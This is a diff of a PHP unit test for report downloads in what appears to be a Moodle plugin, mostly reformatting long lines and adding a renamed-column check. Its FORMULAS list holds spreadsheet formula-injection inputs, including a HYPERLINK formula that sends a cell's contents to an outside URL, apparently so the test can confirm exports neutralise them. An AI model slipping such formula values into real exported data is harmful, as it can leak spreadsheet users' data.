@@ -53,7 +53,8 @@ use stdClass;
 final class download_test extends reports_testcase {
     /** Texts that a spreadsheet would run, or take for the end of a cell. */
     private const FORMULAS = [
-        '=1+1', '+1', '-1', '@SUM(A1)', ' =1+1', "\u{00A0}=1", "\u{200B}=1", "\u{202E}=1", "\u{FEFF}=1", "\u{FF1D}1+1", "\t=1", "\r=1", "\n=1",
+        '=1+1', '+1', '-1', '@SUM(A1)', ' =1+1', "\u{00A0}=1", "\u{200B}=1", "\u{202E}=1", "\u{FEFF}=1", "\u{FF1D}1+1",
+        "\t=1", "\r=1", "\n=1",
         '=HYPERLINK("https://example.com?"&A1;"x")', "  \n +1",
     ];
 
@@ -128,7 +129,9 @@ final class download_test extends reports_testcase {
         foreach ($points as $i => $row) {
             $where = ['subject' => 'st1', 'value' => $i + 1];
             $this->assertSame($DB->count_records('leerlandschap_answer', $where), $row['count']);
-            $this->assertSame([4, 5, 1, 5, 'No'], [$row['n'], $row['answered'], $row['opt_outs'], $row['present'], $row['suppressed']]);
+            $this->assertSame([4, 5, 1, 5, 'No'], [
+                $row['n'], $row['answered'], $row['opt_outs'], $row['present'], $row['suppressed'],
+            ]);
         }
         $this->assertSame(['Strongly disagree', 'Strongly agree'], [$points[0]['label'], $points[4]['label']]);
         [$suppressed] = $of('answers', 'st2');
@@ -164,7 +167,8 @@ final class download_test extends reports_testcase {
             $DB->delete_records('leerlandschap_round', ['meetingid' => $meeting, 'step' => $step]);
             $DB->insert_record('leerlandschap_round', (object) [
                 'meetingid' => $meeting, 'step' => $step, 'round' => 1, 'phase' => 'revealed',
-                'items' => json_encode(array_column($these, 'item')), 'answered' => 3, 'presentcount' => 3, 'results' => json_encode($these),
+                'items' => json_encode(array_column($these, 'item')), 'answered' => 3, 'presentcount' => 3,
+                'results' => json_encode($these),
             ]);
         }
         $rows = $this->rows($this->trainer, 'results');
@@ -184,6 +188,8 @@ final class download_test extends reports_testcase {
      * or bears no name there.
      */
     public function test_answers(): void {
+        global $DB;
+
         $this->create_activity(['visibility' => 'named'], 4);
         $this->start();
         foreach ([1, 5, null, 4] as $i => $value) {
@@ -208,6 +214,14 @@ final class download_test extends reports_testcase {
             ''
         );
         $this->assertStringContainsString($labels->item('st1', []), $headings);
+        // What the exercise has no more keeps its column.
+        $round = $DB->get_record('leerlandschap_round', ['step' => 'stellingen']);
+        foreach (['items', 'results'] as $column) {
+            $DB->set_field('leerlandschap_round', $column, str_replace('"st1"', '"gone"', $round->$column), ['id' => $round->id]);
+        }
+        $told = array_column($this->rows($this->trainer, 'answers'), 'gone', 'user_id');
+        $this->assertSame(1, $told[$this->learners[0]->id]);
+        $this->assertStringEndsWith(',gone', trim(file($this->file($this->trainer, 'answers', 'csv'))[0]));
         // Somebody whose data was erased is in none of it.
         (new \mod_leerlandschap\privacy\provider())::delete_data_for_user(new \core_privacy\local\request\approved_contextlist(
             $this->learners[0],
@@ -275,7 +289,10 @@ final class download_test extends reports_testcase {
             'open', 'busy', 'done',
         ]);
         $name = fullname($owner);
-        $this->assertSame([['Klaar', $done, $name, 1, 1], ['=A1', $busy, $name, 2, 1]], $told($this->rows($this->trainer, 'actions')));
+        $this->assertSame(
+            [['Klaar', $done, $name, 1, 1], ['=A1', $busy, $name, 2, 1]],
+            $told($this->rows($this->trainer, 'actions'))
+        );
         $this->assertSame(
             [['=A1', $open, $name, 1, 1], ['Weg', $open, $name, 1, 1], ['Klaar', $done, $name, 1, 1]],
             $told($this->rows($this->trainer, 'actions', 0, 1)),
@@ -331,7 +348,8 @@ final class download_test extends reports_testcase {
         $column = $exercise->setting($dotted, 'columns')[0]['id'];
         foreach (['n1', 'n2'] as $position => $uuid) {
             $DB->insert_record('leerlandschap_contrib', (object) [
-                'meetingid' => $meeting, 'uuid' => $uuid, 'step' => $dotted, 'kind' => 'note', 'position' => $position, 'revision' => 1,
+                'meetingid' => $meeting, 'uuid' => $uuid, 'step' => $dotted, 'kind' => 'note',
+                'position' => $position, 'revision' => 1,
                 'fields' => json_encode(['column' => $column, 'text' => $uuid, 'group' => 'Samen']), 'audience' => 'group',
             ]);
         }
@@ -403,7 +421,9 @@ final class download_test extends reports_testcase {
             $row['user_name'], $row['joined'], $row['step_stellingen'], $row['earned'],
         ]);
         $this->assertSame('', $row['step_opbrengst'] ?? '');
-        $item = \grade_item::fetch(['itemmodule' => 'leerlandschap', 'iteminstance' => $this->cm->instance, 'courseid' => $this->course->id]);
+        $item = \grade_item::fetch([
+            'itemmodule' => 'leerlandschap', 'iteminstance' => $this->cm->instance, 'courseid' => $this->course->id,
+        ]);
         $item->set_hidden(1);
         $role = $this->getDataGenerator()->create_role();
         assign_capability('moodle/grade:viewhidden', CAP_PROHIBIT, $role, \context_course::instance($this->course->id));
@@ -431,7 +451,7 @@ final class download_test extends reports_testcase {
             $this->assert_refused('other_group', fn() => $this->file($this->trainer, 'results', 'csv', $other));
         }
         $names = array_column($this->rows($this->trainer, 'participation'), 'user_id');
-        $this->assertEqualsCanonicalizing(array_map(fn(stdClass $user): int => (int) $user->id, array_slice($this->learners, 0, 3)), $names);
+        $this->assertEqualsCanonicalizing(array_map(intval(...), array_column(array_slice($this->learners, 0, 3), 'id')), $names);
         groups_delete_group($south);
         rebuild_course_cache($this->course->id, true);
         $this->assertSame(['Noord'], $groups($this->trainer));
